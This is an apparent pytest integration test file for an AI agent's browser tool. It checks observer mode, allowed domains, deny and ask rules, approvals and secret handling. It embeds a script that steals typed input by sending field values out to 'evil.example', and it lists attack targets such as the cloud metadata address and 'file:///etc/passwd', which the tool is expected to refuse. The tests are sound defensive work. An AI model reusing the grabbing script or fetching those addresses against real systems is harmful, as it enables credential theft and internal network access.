"""What policy makes of the browser: modes, rules, allowed domains, labels, approvals, secrets."""

from __future__ import annotations

from collections.abc import Iterator
from ipaddress import ip_address
from pathlib import Path
from typing import Any

import pytest

from toolcrib import Toolbox, ToolContext
from toolcrib.boundary.network.address_guard import AddressGuard
from toolcrib.boundary.network.special_addresses import Address
from toolcrib.config import load_settings
from toolcrib.core.errors import AddressRefused
from toolcrib.record.undoing import undo

from .conftest import HERE, LACKING, Got, Reply, Site, ref_of

pytestmark = [pytest.mark.integration, pytest.mark.slow]

CTX = ToolContext(session_id="s")
FORM = """<title>Form</title>
<form action="/sent" method="post"><input name="q" aria-label="Query"><button>Send</button></form>
<a href="/two">two</a><p>ticket 4711-0815-2342</p>"""


class Desk:
    """A toolbox with a site of its own, whose names lead to this machine."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.sites: list[Site] = []
        self.boxes: list[Toolbox] = []
        self.asked: list[str] = []

    def site(self, answer: Any = None) -> Site:
        site = Site(answer or (lambda got: Reply(FORM if got.path == "/" else f"<h1>{got.path}</h1>")))
        self.sites.append(site)
        return site

    def box(self, mode: str = "assistant", config: str = "") -> Toolbox:
        work = self.folder / f"work{len(self.boxes)}"
        work.mkdir()
        ports = [site.port for site in self.sites]
        file = self.folder / f"{work.name}.toml"
        private = [f"{HERE}:{port}" for port in ports]
        file.write_text(f"[web]\nallow_private = {private}\nports = {ports}\n{config}")
        box = Toolbox.open(
            settings=load_settings(workspace=work, config=file, flags={"mode": mode}), approve=self.approve
        ).__enter__()
        self.boxes.append(box)
        box.parts.house.ground.network._parts[:] = [AddressGuard(box.settings.web, look_up)]
        return box

    async def approve(self, request: Any) -> bool:
        self.asked.append(f"{request.preview}\n{request.reason}")
        return True

    def close(self) -> None:
        for each in (*self.boxes, *self.sites):
            each.close()


async def look_up(name: str, seconds: float) -> tuple[Address, ...]:
    if name.endswith(".example"):
        return (ip_address(HERE),)
    raise AddressRefused(f"{name} does not resolve", "address:unresolved")


@pytest.fixture
def desk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Desk]:
    if LACKING:
        pytest.skip(f"no browser here: {LACKING}")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    made = Desk(tmp_path)
    yield made
    made.close()


async def ok(box: Toolbox, tool: str, **arguments: Any) -> str:
    output = await box.call(tool, arguments, CTX)
    assert not output.is_error, output.for_llm
    return output.for_llm


async def refused(box: Toolbox, tool: str, **arguments: Any) -> str:
    output = await box.call(tool, arguments, CTX)
    assert output.is_error, output.for_llm
    return output.for_llm


async def test_a_click_asks_and_says_what_is_clicked(desk: Desk) -> None:
    site = desk.site()
    box = desk.box()
    page = await ok(box, "browser_open", url=site.url())
    assert not desk.asked
    ref = ref_of(page, 'link "two"')
    await ok(box, "browser_click", ref=ref)
    (asked,) = desk.asked
    assert asked.startswith(f'link "two" ({ref}) on {site.url()}')
    assert (await box.call("browser_snapshot", {}, CTX)).labels.integrity == "untrusted"  # type: ignore[union-attr]


async def test_observer_mode_looks_and_does_not_touch(desk: Desk) -> None:
    site = desk.site()
    box = desk.box("observer")
    page = await ok(box, "browser_open", url=site.url())
    assert "observer mode" in await refused(box, "browser_click", ref=ref_of(page, 'button "Send"'))
    assert "observer mode" in await refused(box, "browser_type", ref=ref_of(page, "textbox"), text="x")
    assert site.paths() == ["/"]


@pytest.mark.parametrize(
    "config", ['allowed_domains = ["site.example"]', '[tools.browser]\nallowed_domains = ["*.example"]']
)
async def test_in_allowed_domains_nothing_is_asked(desk: Desk, config: str) -> None:
    site = desk.site()
    box = desk.box(config=config)
    page = await ok(box, "browser_open", url=site.url())
    await ok(box, "browser_type", ref=ref_of(page, "textbox"), text="hello")
    await ok(box, "browser_click", ref=ref_of(page, 'button "Send"'))
    assert not desk.asked
    assert site.asked[-1].body == b"q=hello"


async def test_an_element_in_a_frame_of_an_allowed_page_asks(desk: Desk) -> None:
    def answer(got: Got) -> Reply:
        if got.headers["host"].startswith("other.test.example"):
            return Reply("<button>Theirs</button>")
        return Reply(f"<iframe src='http://other.test.example:{site.port}/'></iframe>")

    site = desk.site(answer)
    box = desk.box(config='allowed_domains = ["site.example"]')
    page = await ok(box, "browser_open", url=site.url())
    await ok(box, "browser_click", ref=ref_of(page, 'button "Theirs"'))
    assert "in a frame" in desk.asked[0]


async def test_only_allowed_domains_is_a_wall(desk: Desk) -> None:
    site = desk.site(
        lambda got: Reply(
            f"<a href='http://other.example:{site.port}/'>away</a><img src='http://third.example:{site.port}/i'>"
        )
    )
    box = desk.box(config='[tools.browser]\nallowed_domains = ["site.example"]\nonly_allowed_domains = true')
    page = await ok(box, "browser_open", url=site.url())
    assert "third.example is not one of the domains in tools.browser.allowed_domains" in page
    after = await ok(box, "browser_click", ref=ref_of(page, 'link "away"'))
    assert "other.example is not one of the domains" in after
    assert "not one of the domains" in await refused(box, "browser_open", url=site.url(name="other.example"))
    assert {got.headers["host"].partition(":")[0] for got in site.asked} == {"site.example"}


async def test_rules_speak_of_pages_links_and_redirects(desk: Desk) -> None:
    def answer(got: Got) -> Reply:
        if got.path == "/go":
            return Reply(status=302, headers={"Location": f"http://denied.example:{site.port}/secret"})
        if got.path == "/ask":
            return Reply(status=302, headers={"Location": f"http://asking.example:{site.port}/"})
        links = [
            ("away", f"http://denied.example:{site.port}/x"),
            ("hop", "/go"),
            ("ask", f"http://asking.example:{site.port}/"),
        ]
        return Reply("".join(f"<a href='{to}'>{name}</a>" for name, to in [*links, ("led", "/ask")]))

    site = desk.site(answer)
    config = """allowed_domains = ["site.example"]
[rules]
deny = ["WebFetch(domain:denied.example)"]
ask = ["WebFetch(domain:asking.example)"]
"""
    box = desk.box(config=config)
    assert "denied" in await refused(box, "browser_open", url=site.url(name="denied.example"))
    for name in ("away", "hop"):
        page = await ok(box, "browser_open", url=site.url())
        after = await ok(box, "browser_click", ref=ref_of(page, f'link "{name}"'))
        assert "refused" in after, name
    for name in ("ask", "led"):
        page = await ok(box, "browser_open", url=site.url())
        after = await ok(box, "browser_click", ref=ref_of(page, f'link "{name}"'))
        assert "call browser_open with that address" in after, name
        assert f'" http://asking.example:{site.port}/' not in after, name
    hosts = [got.headers["host"].partition(":")[0] for got in site.asked]
    assert "denied.example" not in hosts
    assert hosts.count("asking.example") == 1  # of the redirect, which is seen when it has been followed
    assert not desk.asked
    await ok(box, "browser_open", url=site.url(name="asking.example"))
    assert len(desk.asked) == 1


async def test_what_an_untrusted_page_said_is_asked_about_before_it_is_typed(desk: Desk) -> None:
    site = desk.site()
    box = desk.box("autonomous", 'allowed_domains = ["site.example"]')
    page = await ok(box, "browser_open", url=site.url())
    await ok(box, "browser_type", ref=ref_of(page, "textbox"), text="hello")
    await ok(box, "browser_click", ref=ref_of(page, 'link "two"'))  # refs themselves say nothing
    assert not desk.asked
    page = await ok(box, "browser_open", url=site.url())
    await ok(box, "browser_type", ref=ref_of(page, "textbox"), text="4711-0815-2342")
    assert '"4711-0815-2342" is in the result of' in desk.asked[0]


async def test_secrets_are_typed_by_name_in_allowed_domains(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SHOP_PASSWORD", "correct-horse-battery")
    site = desk.site()
    config = """allowed_domains = ["site.example"]
[secrets.SHOP]
env = "SHOP_PASSWORD"
tools = ["browser_type"]
"""
    box = desk.box(config=config)
    page = await ok(box, "browser_open", url=site.url())
    typed = await ok(box, "browser_type", ref=ref_of(page, "textbox"), text="${secret:SHOP}", submit=False)
    assert "correct-horse-battery" not in typed
    assert "[secret:SHOP]" in typed  # which is what the field shows
    await ok(box, "browser_click", ref=ref_of(page, 'button "Send"'))
    assert site.asked[-1].body == b"q=correct-horse-battery"
    assert not desk.asked
    page = await ok(box, "browser_open", url=site.url(name="phish.example"))
    said = await refused(box, "browser_type", ref=ref_of(page, "textbox"), text="${secret:SHOP}")
    assert "allowed domains only" in said
    page = await ok(box, "browser_open", url=site.url())
    assert "there is no secret" in await refused(box, "browser_type", ref=ref_of(page, "textbox"), text="${secret:NO}")


GRABS = """<input id="i"><script>setInterval(() => {
  i.focus(); if (i.value) new Image().src = "/got?" + encodeURIComponent(i.value) }, 0)</script>"""


@pytest.mark.parametrize("append", [False, True])
@pytest.mark.parametrize("text", ["${secret:SHOP}", "correct-horse-battery"])
async def test_a_frame_that_takes_the_focus_gets_nothing_that_is_typed(
    desk: Desk, monkeypatch: pytest.MonkeyPatch, append: bool, text: str
) -> None:
    monkeypatch.setenv("SHOP_PASSWORD", "correct-horse-battery")
    evil = desk.site(lambda got: Reply(GRABS))
    form = (
        '<form action="/sent" method="post"><input name="q" value="my " aria-label="Query"><button>Send</button></form>'
    )
    frame = f'<iframe src="{evil.url(name="evil.example")}"></iframe>'
    site = desk.site(lambda got: Reply(form + frame if got.path == "/" else "sent"))
    secret = 'env = "SHOP_PASSWORD"\ntools = ["browser_type"]\n'
    box = desk.box(config=f'allowed_domains = ["site.example"]\n[secrets.SHOP]\n{secret}')
    page = await ok(box, "browser_open", url=site.url())
    typed = await ok(box, "browser_type", ref=ref_of(page, 'textbox "Query"'), text=text, append=append)
    assert "[secret:SHOP]" in typed
    await ok(box, "browser_click", ref=ref_of(page, 'button "Send"'))
    assert site.asked[-1].body == (b"q=my+correct-horse-battery" if append else b"q=correct-horse-battery")
    assert not [path for path in evil.paths() if path.startswith("/got")]


async def test_saving_obeys_path_rules_and_can_be_undone(desk: Desk) -> None:
    site = desk.site(
        lambda got: Reply("data", "text/csv", headers={"Content-Disposition": "attachment; filename=a.csv"})
    )
    box = desk.box(config='[rules]\ndeny = ["Edit(private/**)"]')
    await ok(box, "browser_open", url=site.url())
    assert "denied" in await refused(box, "browser_save", item="d1", path="private/a.csv")
    assert "outside" in await refused(box, "browser_save", item="d1", path="../a.csv")
    await ok(box, "browser_save", item="d1", path="a.csv")
    assert (box.workspace.root / "a.csv").read_text() == "data"
    undo(box.journal)
    assert not (box.workspace.root / "a.csv").exists()


async def test_check_says_what_would_happen(desk: Desk) -> None:
    desk.site()
    box = desk.box()
    for url, verdict in (
        ("http://169.254.169.254/", "deny"),
        ("file:///etc/passwd", "deny"),
        ("http://[::ffff:10.0.0.1]/", "deny"),
        ("https://93.184.215.14/", "allow"),
    ):
        assert (await box.check("browser_open", {"url": url})).verdict == verdict, url
    assert (await box.check("browser_click", {"ref": "e12"})).verdict == "ask"
    assert (await box.check("browser_save", {"item": "d1", "path": "../x"})).verdict == "deny"
    assert (await box.check("browser_open", {"url": "http://127.0.0.1:8080/"}, bare=True)).verdict == "deny"
